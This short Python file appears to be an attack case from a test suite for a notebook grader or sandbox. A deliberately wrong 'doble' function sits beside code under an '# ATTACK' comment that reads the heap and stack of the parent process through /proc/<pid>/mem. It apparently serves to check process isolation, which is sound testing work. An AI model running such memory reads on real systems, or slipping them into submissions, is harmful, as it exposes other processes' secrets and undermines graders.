"""Reads the memory of the process that started it, without stopping it.

id: reads-the-memory-of-its-parent
notebook: tp
replaces: doble
loses: prueba_doble
"""


def doble(x):
    return x + 1


# ATTACK
import os

for _pid in {os.getppid()}:
    try:
        _memoria = open(f"/proc/{_pid}/mem", "rb", 0)
        for _linea in open(f"/proc/{_pid}/maps").read().splitlines():
            if "[heap]" in _linea or "[stack]" in _linea:
                _memoria.seek(int(_linea.split("-")[0], 16))
                print("LOGRADO: read", len(_memoria.read(4096)), "bytes of the parent")
    except (OSError, ValueError) as error:
        print(repr(error))
